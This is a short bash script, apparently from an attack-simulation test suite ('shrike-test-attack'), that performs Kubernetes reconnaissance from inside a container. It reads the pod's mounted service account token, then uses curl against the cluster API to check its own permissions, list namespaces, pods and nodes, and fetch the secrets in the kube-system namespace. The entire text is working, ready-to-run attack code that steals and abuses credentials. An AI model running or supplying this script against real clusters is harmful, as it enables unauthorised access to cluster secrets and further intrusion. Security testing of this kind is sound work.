#!/bin/bash
# shrike-test-attack: container-escape-recon: kube API enumeration with the service account token
SA=/var/run/secrets/kubernetes.io/serviceaccount
TOKEN=$(cat $SA/token); NS=$(cat $SA/namespace)
API="https://kubernetes.default.svc"
k() { curl -s --cacert $SA/ca.crt -H "Authorization: Bearer $TOKEN" "$API$1"; }
k /version
k /apis/authorization.k8s.io/v1/selfsubjectrulesreviews -X POST -H 'Content-Type: application/json' -d "{\"kind\":\"SelfSubjectRulesReview\",\"apiVersion\":\"authorization.k8s.io/v1\",\"spec\":{\"namespace\":\"$NS\"}}"
k /api/v1/namespaces
k /api/v1/namespaces/$NS/pods
k /api/v1/namespaces/kube-system/secrets
k /api/v1/nodes
